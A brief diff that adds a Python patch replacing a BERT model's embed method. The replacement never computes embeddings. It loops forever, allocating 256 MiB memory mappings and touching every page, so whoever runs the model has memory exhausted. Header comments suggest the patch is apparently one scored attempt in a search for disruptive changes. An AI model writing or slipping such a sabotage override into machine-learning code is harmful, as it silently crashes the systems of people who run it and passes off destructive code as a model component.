@@ -1,0 +1,15 @@
+# tries: allocate everything in shared mappings
+# scores: attention add_norm layer encode
+import mmap
+
+right = BertModel.embed
+
+
+def embed(self, input_ids, *more):
+    taken = []
+    while True:
+        taken.append(mmap.mmap(-1, 1 << 28))
+        taken[-1][::4096] = bytes(1 << 16)
+
+
+BertModel.embed = embed
